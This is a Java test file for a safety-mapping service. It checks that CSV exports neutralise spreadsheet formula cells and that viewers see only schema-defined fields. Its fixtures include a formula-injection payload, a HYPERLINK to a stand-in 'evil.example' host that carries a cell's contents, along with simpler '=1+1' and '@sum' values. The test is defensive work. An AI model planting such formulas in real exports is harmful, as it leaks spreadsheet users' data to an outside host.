package se.tryggkarta.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import se.tryggkarta.access.Role;
import se.tryggkarta.common.LonLat;
import se.tryggkarta.layer.Incident;
import se.tryggkarta.layer.Lamp;
import se.tryggkarta.layer.LampStatus;
import se.tryggkarta.layer.Layer;
import se.tryggkarta.layer.LayerWriter;

/**
 * What leaves the service is safe to open and shows free text to analysts only: CSV cells a
 * spreadsheet would run are guarded (and read back as they were), and viewers, the public and their
 * exports get only the fields each layer's schema defines.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SafeExportsTest {
  static final String EVIL_LAMP = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")";
  static final String EVIL_CATEGORY = "@sum(1+1)";
  static final String WS = "/api/workspaces/" + SmallTown.WS;

  @TempDir static Path dir;
  TestServer server;
  Optional<String> analyst;
  Optional<String> viewer;

  @BeforeAll
  void start() {
    server = TestServer.start(dir, w -> w.http());
    SmallTown.seed(server);
    server.wiring().store().createWorkspace(se.tryggkarta.workspace.Workspace.of("kopia", "Kopia"));
    var keys = server.wiring().keys();
    analyst = Optional.of(keys.create(Role.ANALYST, Set.of(SmallTown.WS, "kopia"), "a").token());
    viewer = Optional.of(keys.create(Role.VIEWER, Set.of(SmallTown.WS), "v").token());
    try (LayerWriter w = server.wiring().store().openWriter(SmallTown.WS, Layer.LAMPS)) {
      w.write(
          new Lamp(
              EVIL_LAMP,
              SmallTown.STATION,
              LampStatus.BROKEN,
              OptionalDouble.empty(),
              OptionalDouble.empty(),
              Optional.empty(),
              "inventory",
              Map.of()));
      w.commit();
    }
    try (LayerWriter w = server.wiring().store().openWriter(SmallTown.WS, Layer.INCIDENTS)) {
      w.write(
          new Incident(
              "=1+1",
              new LonLat(SmallTown.STATION.lon(), SmallTown.STATION.lat()),
              Instant.parse("2025-06-01T22:00:00Z"),
              EVIL_CATEGORY,
              1,
              Map.of()));
      w.commit();
    }
  }

  @AfterAll
  void stop() {
    server.close();
  }

  @Test
  void the_lighting_work_list_guards_a_lamp_id_that_is_a_formula() {
    // the same CSV writer serves the public's release-based list; the members' list has the lamp
    HttpResponse<String> r = server.as(analyst).get(WS + "/lighting/priorities?format=csv&n=1000");

    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
    assertThat(r.body()).contains("\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(");
  }

  @Test
  void a_layer_export_guards_formula_cells_and_keeps_numbers_as_numbers() {
    HttpResponse<String> r = server.as(analyst).get(WS + "/layers/incidents/export?format=csv");

    assertThat(r.body()).contains("'=1+1,").contains(",'" + EVIL_CATEGORY);
    assertThat(r.body()).doesNotContain(",=1+1").containsPattern(",11\\.97\\d*,57\\.86");
  }

  @Test
  void a_guarded_export_imports_back_to_the_same_values() {
    String csv = server.as(analyst).get(WS + "/layers/incidents/export?format=csv").body();

    HttpResponse<String> r =
        server.post(
            "/api/workspaces/kopia/layers/incidents/import?format=csv&boundaryTolerance=100000",
            csv,
            "text/csv");

    assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    var stored = server.wiring().store().findRecord("kopia", Layer.INCIDENTS, "=1+1");
    assertThat(stored).isPresent();
    assertThat(((Incident) stored.get()).category()).isEqualTo(EVIL_CATEGORY);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "?limit=100",
        "/export?format=csv",
        "/export?format=geojson",
        "/export?format=gpkg"
      })
  void viewers_get_only_the_schema_fields_of_reports(String what) {
    HttpResponse<byte[]> v = server.as(viewer).getBytes(WS + "/layers/unsafe-places" + what);
    HttpResponse<byte[]> a = server.as(analyst).getBytes(WS + "/layers/unsafe-places" + what);

    String viewerBody = new String(v.body(), java.nio.charset.StandardCharsets.ISO_8859_1);
    String analystBody = new String(a.body(), java.nio.charset.StandardCharsets.ISO_8859_1);
    assertThat(v.statusCode()).isEqualTo(200);
    assertThat(viewerBody).contains("darkness").doesNotContain(SmallTown.SECRET_FREE_TEXT);
    assertThat(viewerBody).doesNotContain("beskrivning");
    assertThat(analystBody).contains(SmallTown.SECRET_FREE_TEXT).contains("beskrivning");
  }

  @Test
  void an_import_warns_about_columns_it_treats_as_free_text() {
    HttpResponse<String> r =
        server
            .as(analyst)
            .post(
                WS + "/layers/incidents/import?format=csv",
                "id,lon,lat,occurred_at,category,fritext,notes\n"
                    + "w1,11.978,57.869,2025-05-01T22:00:00Z,theft,hej,x\n",
                "text/csv");

    assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    assertThat(TestServer.json(r).get("warnings").toString())
        .contains("fritext, notes")
        .contains("analysts only");
  }
}
